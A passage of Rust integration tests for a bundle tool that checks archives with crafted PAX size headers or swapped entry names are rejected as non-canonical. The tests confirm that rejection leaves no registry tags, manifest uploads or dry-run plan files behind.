    let target = Registry::start().unwrap();
    let run = push(&bundle, &target);
    assert_eq!(run.code, 0, "{}", run.transcript());
    assert!(!stored_tags(&target.data_dir()).is_empty());

    for (what, crafted) in pax_size_and_swapped_names(&Archive::read(&bundle).unwrap()) {
        for layout in Layout::BOTH {
            let out = up.s.path(&format!("{what}-{layout:?}.tar.zst"));
            crafted.write(layout, &out).unwrap();
            let target = Registry::start().unwrap();
            let run = push(&out, &target);
            assert_non_canonical(&run, layout, &["PAX extended header"]);
            assert_eq!(
                stored_tags(&target.data_dir()),
                Vec::<String>::new(),
                "{what} {layout:?}: nothing tagged"
            );
            let manifest_puts = target
                .log()
                .lines()
                .filter(|l| l.contains("\"PUT /v2/") && l.contains("/manifests/"))
                .count();
            assert_eq!(manifest_puts, 0, "{what} {layout:?}: no manifest PUT");
        }
    }
}

#[test]
fn install_dry_run_of_pax_size_or_swapped_names_exits_3_and_writes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let bundle = bundle_testbed::site::write_plannable_site(dir.path(), 1);
    let plan = |b: &Path, out: &str| {
        let o = Command::new(env!("CARGO_BIN_EXE_bundle"))
            .current_dir(dir.path())
            .args([
                "install",
                b.to_str().unwrap(),
                "--inventory",
                "cluster.yaml",
            ])
            .args(["--pubkey", "k.pub", "--dry-run", "--plan-out", out])
            .output()
            .expect("bundle runs");
        (
            o.status.code(),
            String::from_utf8_lossy(&o.stderr).into_owned(),
        )
    };
    // Control: the genuine bundle plans.
    let (code, err) = plan(&bundle, "plan-genuine");
    assert_eq!(code, Some(0), "{err}");
    assert!(dir.path().join("plan-genuine").read_dir().unwrap().count() > 0);

    for (what, crafted) in pax_size_and_swapped_names(&Archive::read(&bundle).unwrap()) {
        for layout in Layout::BOTH {
            let out = dir.path().join(format!("{what}-{layout:?}.tar.zst"));
            crafted.write(layout, &out).unwrap();
            let plan_dir = format!("plan-{what}-{layout:?}");
            let (code, err) = plan(&out, &plan_dir);
            assert_eq!(code, Some(3), "{what} {layout:?}: {err}");
            assert!(err.contains(NON_CANONICAL), "{what} {layout:?}: {err}");
            let written = std::fs::read_dir(dir.path().join(&plan_dir))
                .map(|d| d.count())
                .unwrap_or(0);
            assert_eq!(
                written, 0,
                "{what} {layout:?}: nothing written into the plan folder"
            );
        }
    }
}
